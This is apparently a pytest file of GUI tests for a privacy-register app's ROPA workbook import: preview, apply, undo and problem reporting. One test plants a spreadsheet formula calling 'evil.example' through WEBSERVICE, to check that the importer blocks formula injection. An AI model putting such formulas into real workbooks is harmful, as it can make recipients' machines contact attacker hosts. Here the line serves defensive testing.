"""Importing a ROPA workbook: the preview first, then the register changed exactly as previewed."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QUndoStack

from gui.workflow_fixtures import NOW, Files, demo_service, files, wait_for_worker, workers_finished
from privdesk.documents.files import no_progress
from privdesk.documents.ropa_xlsx import write_ropa
from privdesk.domain import records as rec
from privdesk.gui.import_dialog import ImportDialog
from privdesk.gui.settings import Settings
from privdesk.services import RegisterService

__all__ = ["demo_service", "files", "workers_finished"]

LEFT = Qt.MouseButton.LeftButton
NEW_NAME = "Mathematics practice in Numetry, grades 1 to 7"


def _edited_workbook(service: RegisterService, path: Path) -> None:
    """The auditor's copy (with the record versions the window's export writes), edited: one
    activity renamed, one added."""
    versions: dict[str, dict[str, int]] = {}
    register = service.snapshot(versions)
    renamed = tuple(rec.replace(a, name=NEW_NAME) if a.ref == "PA-001" else a
                    for a in register.activities)
    added = rec.Activity(ref="PA-006", name="School photographs", purposes=("Class photos",),
                         legal_bases=("6.1.a",), subjects=("pupils",),
                         retention="Until the pupil leaves")
    write_ropa(rec.replace(register, activities=(*renamed, added)), path, "nb", None, NOW,
               no_progress, versions)


def _dialog(qtbot: Any, service: RegisterService, stack: QUndoStack) -> ImportDialog:
    dialog = ImportDialog(service, Settings(), stack)
    qtbot.addWidget(dialog)
    dialog.show()
    qtbot.waitExposed(dialog)
    return dialog


def _tree(dialog: ImportDialog) -> list[tuple[str, list[str]]]:
    found = []
    for i in range(dialog.tree.topLevelItemCount()):
        top = dialog.tree.topLevelItem(i)
        assert top is not None
        children = [top.child(j) for j in range(top.childCount())]
        found.append((top.text(0), [f"{c.text(0)} | {c.text(1)}" for c in children if c]))
    return found


def test_an_import_previewed_then_applied_and_undone(
        qtbot: Any, demo_service: RegisterService, files: Files, tmp_path: Path) -> None:
    workbook = tmp_path / "ropa-edited.xlsx"
    _edited_workbook(demo_service, workbook)
    before = demo_service.snapshot()
    stack = QUndoStack()
    dialog = _dialog(qtbot, demo_service, stack)
    assert not dialog.apply_button.isEnabled()

    files.open_from.append(workbook)
    with qtbot.waitSignal(dialog.preview_ready, timeout=30_000):
        qtbot.mouseClick(dialog.choose_button, LEFT)
    wait_for_worker(qtbot)
    assert _tree(dialog) == [
        ("Adds (1)", ["Processing activity PA-006 | School photographs"]),
        ("Changes (1)", [f"Processing activity PA-001: {NEW_NAME} | Name"]),
    ]
    assert dialog.status.text() == ("1 to add, 1 to change. Nothing is changed until you "
                                    "press Apply.")
    assert demo_service.snapshot() == before  # the preview changed nothing

    with qtbot.waitSignal(dialog.applied):
        qtbot.mouseClick(dialog.apply_button, LEFT)
    after = demo_service.snapshot()
    assert demo_service.activity("PA-001").name == NEW_NAME
    added = demo_service.activity("PA-006")
    assert (added.name, added.legal_bases, added.subjects) == (
        "School photographs", ("6.1.a",), ("pupils",))
    # Exactly what the preview showed, nothing else.
    assert after.processors == before.processors
    assert after.incidents == before.incidents
    assert after.requests == before.requests
    assert [a for a in after.activities if a.ref not in ("PA-001", "PA-006")] == [
        a for a in before.activities if a.ref != "PA-001"]
    assert not dialog.isVisible()

    stack.undo()
    assert demo_service.snapshot() == before


def test_a_broken_workbook_cannot_be_applied(
        qtbot: Any, demo_service: RegisterService, files: Files, tmp_path: Path) -> None:
    broken = tmp_path / "not-a-workbook.xlsx"
    broken.write_bytes(b"these are not the bytes of a workbook")
    before = demo_service.snapshot()
    dialog = _dialog(qtbot, demo_service, QUndoStack())
    with qtbot.waitSignal(dialog.preview_ready, timeout=30_000):
        dialog.read(broken)
    wait_for_worker(qtbot)
    assert dialog.status.text()
    assert "Reading" not in dialog.status.text()
    assert not dialog.apply_button.isEnabled()
    assert demo_service.snapshot() == before


LONG_OWNER = ("Deputy head for special needs, together with the school nurse and the "
              "coordinator for adapted education at the lower stage")


def test_the_preview_shows_each_changed_field_from_old_to_new(
        qtbot: Any, demo_service: RegisterService, files: Files, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The DPO sees what a change does before applying it: each field, its old and its new
    value in words (codes as labels, dates in the language's form), long text shortened on the
    line and whole in the tooltip."""
    from datetime import date

    from privdesk.gui import formatting

    monkeypatch.setitem(formatting._state, "loaded", True)  # Babel's forms, as after start
    old = demo_service.activity("PA-001")
    workbook = tmp_path / "ropa-edited.xlsx"
    versions: dict[str, dict[str, int]] = {}
    register = demo_service.snapshot(versions)
    edited = tuple(rec.replace(a, owner=LONG_OWNER, legal_bases=("6.1.a",),
                               review_due=date(2027, 3, 1)) if a.ref == "PA-001" else a
                   for a in register.activities)
    write_ropa(rec.replace(register, activities=edited), workbook, "nb", None, NOW,
               no_progress, versions)
    dialog = _dialog(qtbot, demo_service, QUndoStack())
    files.open_from.append(workbook)
    with qtbot.waitSignal(dialog.preview_ready, timeout=30_000):
        qtbot.mouseClick(dialog.choose_button, LEFT)
    wait_for_worker(qtbot)
    changes = dialog.tree.topLevelItem(0)
    assert changes is not None and changes.text(0) == "Changes (1)"
    record = changes.child(0)
    assert record is not None
    rows = {record.child(i).text(0): record.child(i) for i in range(record.childCount())}
    assert set(rows) == {"Owner", "Next review", "Legal basis"}, set(rows)
    bases = rows["Legal basis"].text(1)
    assert bases.endswith("→ Art. 6(1)(a) – consent"), bases
    assert "6.1." not in bases
    assert rows["Next review"].text(1).endswith("→ 1 Mar 2027"), rows["Next review"].text(1)
    owner = rows["Owner"]
    assert owner.text(1).startswith(f"{old.owner} → Deputy head for special needs")
    assert owner.text(1).endswith("…") and len(owner.text(1)) < len(old.owner) + 90
    assert owner.toolTip(1) == f"{old.owner}\n→\n{LONG_OWNER}"
    assert not dialog.problems.isVisible()


def test_problems_are_listed_in_full_with_their_count_in_words(
        qtbot: Any, demo_service: RegisterService, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    workbook = tmp_path / "ropa-formula.xlsx"
    _edited_workbook(demo_service, workbook)
    book = load_workbook(workbook)
    sheet = book.worksheets[1]
    sheet.cell(2, 2).value = '=WEBSERVICE("http://evil.example")'
    book.save(workbook)
    dialog = _dialog(qtbot, demo_service, QUndoStack())
    with qtbot.waitSignal(dialog.preview_ready, timeout=30_000):
        dialog.read(workbook)
    wait_for_worker(qtbot)
    assert dialog.status.text() == ("1 problem in the workbook: it cannot be imported until "
                                    "it is fixed.")
    assert dialog.problems.isVisible()
    shown = dialog.problems.toPlainText()
    problem = dialog.preview.blocking[0] if dialog.preview else ""
    assert "Cannot read (1)" in shown
    assert problem and problem in shown  # the whole text, not cut off
    assert "formula" in problem
    assert not dialog.apply_button.isEnabled()
